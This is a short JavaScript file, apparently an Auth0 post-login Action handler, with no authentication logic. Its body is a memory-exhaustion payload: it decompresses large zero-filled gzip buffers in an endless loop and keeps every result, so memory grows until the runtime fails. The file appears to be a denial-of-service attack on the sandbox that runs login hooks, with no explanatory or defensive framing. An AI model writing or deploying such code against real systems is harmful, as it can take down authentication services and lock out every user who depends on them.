exports.onExecutePostLogin = async function (event, api) {
  const z = require("zlib"); let b = Buffer.alloc(1e7); for (let i = 0; i < 3; i++) b = z.gzipSync(b); const one = z.gzipSync(Buffer.alloc(1.6e7)); const all = []; for (;;) try { all.push(z.gunzipSync(Buffer.concat([one, one, one, one]))); } catch (e) { all.push(z.gunzipSync(one)); }
};
